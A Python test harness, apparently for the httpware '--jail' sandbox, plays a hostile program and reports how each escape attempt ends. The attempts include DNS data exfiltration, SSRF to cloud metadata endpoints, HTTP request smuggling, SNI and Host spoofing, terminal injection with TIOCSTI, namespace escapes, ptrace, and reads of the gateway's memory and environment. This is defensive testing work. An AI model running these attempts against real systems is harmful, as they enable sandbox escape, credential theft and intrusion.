#!/usr/bin/env python3
"""The attempts of a hostile program behind the wall of `httpware with --jail`: run by Tests/Jail/run.py as that program.

Prints a JSON line for each attack: its name and its end. It judges nothing. Python 3.11, standard library only.
"""

from __future__ import annotations

import ctypes
import ctypes.util
import errno
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
from collections.abc import Callable

FACTS = json.loads(sys.argv[1])
LIBC = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
TIMEOUT = 5.0
ATTACKS: dict[str, Callable[[], object]] = {}


def attack(name: str):
    def register(run: Callable[[], object]):
        assert name not in ATTACKS, name
        ATTACKS[name] = run
        return run

    return register


def end(run: Callable[[], object]) -> str:
    """How an attack ended, in one word."""
    try:
        return str(run())
    except ssl.SSLError as problem:
        return "closed" if "EOF" in str(problem) or "CLOSED" in str(problem).upper() else f"TLS: {problem.reason}"
    except TimeoutError:
        return "silent"
    except (ConnectionRefusedError, ConnectionResetError, BrokenPipeError):
        return "refused"
    except OSError as problem:
        return errno.errorcode.get(problem.errno or 0, str(problem))


def system(result: int) -> str:
    return "done" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")


# Connections


def stream(host: str, port: int) -> socket.socket:
    connection = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    connection.settimeout(TIMEOUT)
    connection.connect((host, port))
    return connection


def opened(host: str, port: int) -> str:
    with stream(host, port):
        return "connected"


for address, port in [("8.8.8.8", 22), ("8.8.8.8", 853), ("1.1.1.1", 8080), ("192.0.2.1", 1), ("192.0.2.1", 65535), ("2001:db8::1", 22),
                      ("2606:4700::1111", 853), ("2606:4700::1111", 8443), ("10.0.0.1", 22), ("192.168.0.1", 3128), ("169.254.169.254", 8080),
                      ("127.0.0.1", FACTS["secret"]), ("::1", FACTS["secret"]), ("localhost", FACTS["secret"]), ("127.0.0.53", FACTS["secret"])]:
    attack(f"TCP to {address}, port {'of the host' if port == FACTS['secret'] else port}")(lambda address=address, port=port: opened(address, port))

attack("TCP to the host's own address, the port of a server")(lambda: opened(FACTS["own"], FACTS["secret"]))


def datagram(host: str, port: int, message: bytes = b"x") -> str:
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(1.0)
        connection.connect((host, port))
        connection.send(message)
        connection.recv(2000)
        return "answered"


for address, port in [("8.8.8.8", 443), ("8.8.8.8", 123), ("2606:4700::1111", 443), ("169.254.169.254", 123), ("127.0.0.1", 5353)]:
    attack(f"UDP to {address}, port {port}")(lambda address=address, port=port: datagram(address, port))
attack("UDP to every host of the network (mDNS)")(lambda: datagram("224.0.0.251", 5353))


def broadcast() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        connection.settimeout(1.0)
        connection.sendto(b"x", ("255.255.255.255", 67))
        connection.recv(2000)
        return "answered"


attack("UDP broadcast (DHCP)")(broadcast)


# DNS


def question(name: str, kind: int) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".") if label)
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def said(answer: bytes) -> str:
    code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    if code:
        return {1: "malformed", 3: "no name", 4: "unsupported", 5: "refused"}.get(code, str(code))
    if not answers:
        return "no records"
    kind, = struct.unpack(">H", answer[-14:-12]) if answer[-6:-4] == b"\0\4" else (28,)
    return "synthetic" if kind == 1 and answer[-4:-2] in (b"\xc6\x12", b"\xc6\x13") or kind == 28 and answer[-16:-10] == b"\xfdhttpw" else answer[-16:].hex()


def resolve(server: str, name: str, kind: int) -> str:
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(1.0)
        connection.connect((server, 53))
        for _ in range(5):  # as resolvers do: a datagram may be lost
            connection.send(question(name, kind))
            try:
                return said(connection.recv(2000))
            except TimeoutError:
                continue
        return "silent"


def resolve_by_stream(server: str, name: str, kind: int) -> str:
    with stream(server, 53) as connection:
        message = question(name, kind)
        connection.sendall(struct.pack(">H", len(message)) + message)
        file = connection.makefile("rb")
        return said(file.read(struct.unpack(">H", file.read(2))[0]))


attack("DNS, a foreign server is asked for a name")(lambda: resolve("8.8.8.8", "a.test", 1))
attack("DNS, a foreign server over IPv6")(lambda: resolve("2001:4860:4860::8888", "a.test", 28))
attack("DNS, the host's stub resolver")(lambda: resolve("127.0.0.53", "a.test", 1))
attack("DNS, a foreign server over TCP")(lambda: resolve_by_stream("8.8.8.8", "a.test", 1))
attack("DNS, data carried out in a name")(lambda: resolve("8.8.8.8", "0123456789abcdef" * 3 + ".evil.test", 1))
for kind, number in {"TXT": 16, "HTTPS": 65, "MX": 15, "NS": 2, "SRV": 33, "ANY": 255}.items():
    attack(f"DNS, records of type {kind}")(lambda number=number: resolve("8.8.8.8", "a.test", number))
attack("DNS, a transfer of the zone")(lambda: resolve_by_stream("8.8.8.8", "test", 252))
attack("DNS, the name of an address")(lambda: resolve("8.8.8.8", "1.0.0.127.in-addr.arpa", 12))
attack("DNS, a name that is an address in disguise")(lambda: resolve("8.8.8.8", "127.1", 1))
attack("DNS, the canary of DNS over HTTPS")(lambda: resolve("8.8.8.8", "use-application-dns.net", 1))


def garbage() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.connect(("8.8.8.8", 53))
        for count in range(600):
            connection.send(os.urandom(count))
    return resolve("8.8.8.8", "a.test", 1)


attack("DNS, garbage, and then a name")(garbage)


# The growth of the gateway that is allowed while it answers more names than it keeps, in KiB.
MOST_GROWN = 1024


def resident() -> int:
    """The memory of the gateway, in KiB."""
    with open(f"/proc/{os.getppid()}/status") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmRSS"))


def names(count: int) -> str:
    """Many names, and one that is used meanwhile: its address still leads to it, and the gateway takes no more memory for the second half."""
    first, memory = socket.gethostbyname("a.test"), 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(TIMEOUT)
        connection.connect(("8.8.8.8", 53))
        for number in range(count):
            connection.send(question(f"n{number}.test", 1))
            connection.recv(2000)
            if number % 1000 == 0:
                ask(first, 80, "Host: a.test")
            if number == count // 2:
                memory = resident()
    grown = resident() - memory
    return ask(first, 80, "Host: a.test") if grown <= MOST_GROWN else f"{grown} KiB more"


# HTTP


def status(connection: socket.socket) -> str:
    line = b""
    while b"\n" not in line and len(line) < 1000:
        some = connection.recv(1000)
        if not some:
            break
        line += some
    return line.split(b" ")[1].decode() if line.startswith(b"HTTP/") else "closed" if not line else "not HTTP"


def ask(host: str, port: int, *lines: str, target: str = "/", method: str = "GET", rest: bytes = b"") -> str:
    with stream(host, port) as connection:
        connection.sendall("\r\n".join([f"{method} {target} HTTP/1.1", *lines, "", ""]).encode() + rest)
        return status(connection)


def secured(host: str, name: str | None, port: int = 443, protocols: list[str] | None = None) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname = name is not None
    if protocols:
        context.set_alpn_protocols(protocols)
    return context.wrap_socket(stream(host, port), server_hostname=name)


def ask_securely(host: str, name: str | None, *lines: str, target: str = "/", method: str = "GET") -> str:
    with secured(host, name) as connection:
        connection.sendall("\r\n".join([f"{method} {target} HTTP/1.1", *lines, "", ""]).encode())
        return status(connection)


attack("HTTP as it should be")(lambda: ask("a.test", 80, "Host: a.test"))
attack("HTTPS as it should be")(lambda: ask_securely("a.test", "a.test", "Host: a.test"))
attack("HTTPS without a name in the handshake")(lambda: ask_securely("a.test", None, "Host: a.test"))
attack("20,000 names, one of them in use")(lambda: names(20_000))
for address in ("127.0.0.1", "::1", "127.9.9.9"):
    attack(f"HTTP to {address}")(lambda address=address: ask(address, 80, f"Host: {address}"))
    attack(f"HTTPS to {address}")(lambda address=address: ask_securely(address, "a.test", "Host: a.test"))
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "10.0.0.1", "192.168.1.1", "::ffff:127.0.0.1", "64:ff9b::7f00:1"):
    host = f"[{address}]" if ":" in address else address
    attack(f"HTTP to {address}")(lambda address=address, host=host: ask(address, 80, f"Host: {host}"))
attack("HTTPS to the metadata address")(lambda: ask_securely("169.254.169.254", None, "Host: 169.254.169.254"))
for host in ("127.0.0.1", "localhost", "169.254.169.254", "127.1", "0x7f000001", "[::1]", FACTS["own"]):
    shown = "the host's own address" if host == FACTS["own"] else host
    attack(f"HTTP to a public address with Host: {shown}")(lambda host=host: ask("93.184.216.34", 80, f"Host: {host}"))
attack("HTTP to the name of the host itself")(lambda: ask(FACTS["hostname"], 80, f"Host: {FACTS['hostname']}"))
attack("HTTP to one name with the Host of another")(lambda: ask("a.test", 80, "Host: b.test"))
attack("HTTP to one name with the address of another in the target")(lambda: ask("a.test", 80, "Host: a.test", target="http://b.test/"))
attack("HTTP with two Host lines")(lambda: ask("a.test", 80, "Host: a.test", "Host: b.test"))
attack("HTTP with the port of another service in Host")(lambda: ask("a.test", 80, "Host: a.test:22"))
attack("HTTP with a second request in the first")(
    lambda: ask("a.test", 80, "Host: a.test", "Content-Length: 4", "Transfer-Encoding: chunked", method="POST", rest=b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"))
attack("CONNECT without a tunnel")(lambda: ask("a.test", 80, "Host: b.test:443", method="CONNECT", target="b.test:443"))
attack("CONNECT in a tunnel")(lambda: ask_securely("a.test", "a.test", "Host: b.test:443", method="CONNECT", target="b.test:443"))
attack("a handshake that names another host")(lambda: ask_securely("a.test", "b.test", "Host: b.test"))
attack("a request in TLS for another host")(lambda: ask_securely("a.test", "a.test", "Host: b.test"))
attack("a handshake at a public address that names a host")(lambda: ask_securely("93.184.216.34", "a.test", "Host: a.test"))
attack("the same, and then a request for another host")(lambda: ask_securely("93.184.216.34", "a.test", "Host: b.test"))
attack("a handshake at a public address that names a denied host")(lambda: ask_securely("93.184.216.34", "denied.test", "Host: denied.test"))
attack("a denied host")(lambda: ask_securely("denied.test", "denied.test", "Host: denied.test"))
attack("DNS over HTTPS")(lambda: ask_securely("dns.google", "dns.google", "Host: dns.google", target="/dns-query?dns=AAAB"))
attack("an address that stands for no name")(lambda: ask("198.19.200.1", 80, "Host: a.test"))
attack("an address of the machine inside")(lambda: ask("198.18.0.1", 80, "Host: a.test"))


def coalesced() -> str:
    """The handshake names one host, and the request on HTTP/2 another."""
    command = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{http_version}", "--http2", "--max-time", "10", "-H", "Host: b.test", "https://a.test/"]
    return subprocess.run(command, capture_output=True, text=True, timeout=20).stdout


attack("HTTP/2, a second host on the connection of the first")(coalesced)


# Other protocols


def spoken(host: str, port: int, message: bytes) -> str:
    with stream(host, port) as connection:
        if message:
            connection.sendall(message)
        answer = connection.recv(1000)
        return "closed" if not answer else "passed" if answer.startswith((b"echo:", b"hello")) else "answered"


attack("another protocol to a host that is not listed")(lambda: spoken("a.test", 443, b"SSH-2.0-x\r\n"))
attack("another protocol to a listed host")(lambda: spoken("opaque.test", 9000, b"SSH-2.0-x\r\n"))
attack("another protocol to a listed host, another port")(lambda: spoken("opaque.test", 443, b"SSH-2.0-x\r\n"))
attack("another protocol to a public address")(lambda: spoken("93.184.216.34", 443, b"SSH-2.0-x\r\n"))
attack("a silent client of a host that is not listed")(lambda: spoken("a.test", 9000, b""))
attack("a silent client of a listed host, which speaks first")(lambda: spoken("opaque.test", 9000, b""))
attack("a broken handshake")(lambda: spoken("a.test", 443, b"\x16\x03\x01\x00\x04\x01\x00\x00\x00"))
attack("a port that is exposed")(lambda: spoken("127.0.0.1", FACTS["exposed"], b"x"))
attack("a port that is exposed, over IPv6")(lambda: spoken("::1", FACTS["exposed"], b"x"))
attack("a port that is exposed, at another address")(lambda: opened("8.8.8.8", FACTS["exposed"]))


def pinned() -> str:
    """A client that trusts only the host's own certificate refuses ours again and again: that never lets it pass unread."""
    ends = []
    for _ in range(4):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.load_verify_locations(FACTS["pinned"])
        try:
            context.wrap_socket(stream("a.test", 443), server_hostname="a.test").close()
            ends.append("accepted")
        except ssl.SSLCertVerificationError:
            ends.append("read")
    return " ".join(sorted(set(ends)))


attack("a client that pins the host's certificate")(pinned)


# The kernel


def family(number: int, kind: int, protocol: int = 0) -> str:
    socket.socket(number, kind, protocol).close()
    return "made"


attack("a raw socket")(lambda: family(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attack("a raw socket, IPv6")(lambda: family(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
attack("a packet socket")(lambda: family(17, socket.SOCK_RAW))
attack("a socket to the machine's hypervisor (vsock)")(lambda: family(40, socket.SOCK_STREAM))
attack("a socket of Bluetooth")(lambda: family(31, socket.SOCK_RAW))
attack("a socket of TIPC")(lambda: family(30, socket.SOCK_SEQPACKET))
attack("typing into the terminal of the user's shell (TIOCSTI)")(lambda: system(LIBC.ioctl(0, 0x5412, ctypes.create_string_buffer(b"x"))))
attack("typing into the console (TIOCLINUX)")(lambda: system(LIBC.ioctl(0, 0x541C, ctypes.create_string_buffer(b"\x03"))))
IO_URING_SETUP = 425
attack("io_uring, which makes sockets without the call")(lambda: system(LIBC.syscall(IO_URING_SETUP, 4, ctypes.create_string_buffer(256))))


def abstract() -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + FACTS["abstract"])
        return "connected"


attack("an abstract Unix socket of the host")(abstract)

CLONE_NEWNET, CLONE_NEWUSER = 0x40000000, 0x10000000


def enter(path: str, kind: int) -> str:
    descriptor = os.open(path, os.O_RDONLY)
    try:
        return system(LIBC.setns(descriptor, kind))
    finally:
        os.close(descriptor)


for owner, process in (("the gateway", os.getppid()), ("the first process", 1)):
    attack(f"setns to the network of {owner}")(lambda process=process: enter(f"/proc/{process}/ns/net", CLONE_NEWNET))
    attack(f"setns to the users of {owner}")(lambda process=process: enter(f"/proc/{process}/ns/user", CLONE_NEWUSER))
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
attack("ptrace of the gateway")(lambda: system(LIBC.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0)))
attack("ptrace of the gateway, seized")(lambda: system(LIBC.ptrace(PTRACE_SEIZE, os.getppid(), 0, 0)))
attack("the memory of the gateway")(lambda: open(f"/proc/{os.getppid()}/mem", "rb").read(1))
attack("the environment of the gateway")(lambda: open(f"/proc/{os.getppid()}/environ", "rb").read(1))
attack("the descriptors of the gateway")(lambda: [os.readlink(f"/proc/{os.getppid()}/fd/{number}") for number in os.listdir(f"/proc/{os.getppid()}/fd")])
attack("the root folder of the gateway")(lambda: os.listdir(f"/proc/{os.getppid()}/root/"))


def read_memory() -> str:
    room = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(room), 8)
    remote = (ctypes.c_void_p * 2)(ctypes.addressof(room), 8)
    return system(LIBC.process_vm_readv(os.getppid(), local, 1, remote, 1, 0))


attack("the memory of the gateway, by process_vm_readv")(read_memory)


def take_descriptor() -> str:
    process = LIBC.syscall(434, os.getppid(), 0)
    if process < 0:
        return system(process)
    for number in range(3, 64):
        taken = LIBC.syscall(438, process, number, 0)
        if taken >= 0:
            return "taken"
    return system(taken)


attack("a socket of the gateway, by pidfd_getfd")(take_descriptor)


def inherited() -> str:
    """The descriptors beside 0 to 2, without the one that lists them."""
    kept = []
    for name in os.listdir("/proc/self/fd"):
        try:
            os.fstat(int(name))
            kept.append(int(name))
        except OSError:
            pass
    return "none" if all(number < 3 for number in kept) else str(kept)


attack("descriptors that were inherited")(inherited)


def tool(*command: str) -> str:
    result = subprocess.run(command, capture_output=True, text=True, timeout=20)
    return "done" if result.returncode == 0 else "refused"


attack("ip route del local default")(lambda: tool("ip", "route", "del", "local", "default", "dev", "lo", "table", "local"))
attack("ip link add, a pair with an end in the host")(lambda: tool("ip", "link", "add", "v0", "type", "veth", "peer", "name", "v1", "netns", "1"))
attack("ip link set lo down")(lambda: tool("ip", "link", "set", "lo", "down"))
attack("nsenter to the gateway")(lambda: tool("nsenter", "-t", str(os.getppid()), "-n", "true"))
attack("nsenter to the first process")(lambda: tool("nsenter", "-t", "1", "-n", "-U", "true"))
attack("another user namespace, and then the routes")(lambda: tool("unshare", "-Ur", "ip", "link", "set", "lo", "down"))
attack("another user namespace, and then nsenter")(lambda: tool("unshare", "-Ur", "nsenter", "-t", "1", "-n", "true"))
attack("a network of its own, and then a connection")(
    lambda: tool("unshare", "-Urn", sys.executable, "-c", "import socket; socket.create_connection(('8.8.8.8', 80), 3)"))
attack("a module for the kernel")(lambda: system(LIBC.syscall(175, None, 0, b"")))
attack("a mark on packets")(lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 1))
attack("the user is the same inside")(lambda: "same" if os.getuid() == FACTS["user"] else str(os.getuid()))
attack("the working folder is the same inside")(lambda: "same" if os.getcwd() == FACTS["folder"] else os.getcwd())
attack("no variable names a proxy")(lambda: [name for name in os.environ if name.lower() in ("http_proxy", "https_proxy", "all_proxy")])
attack("HTTP after all attacks")(lambda: ask("a.test", 80, "Host: a.test"))


if __name__ == "__main__":
    inherited_first = end(ATTACKS["descriptors that were inherited"])
    for name, run in ATTACKS.items():
        print(json.dumps([name, inherited_first if run is inherited else end(run)]), flush=True)
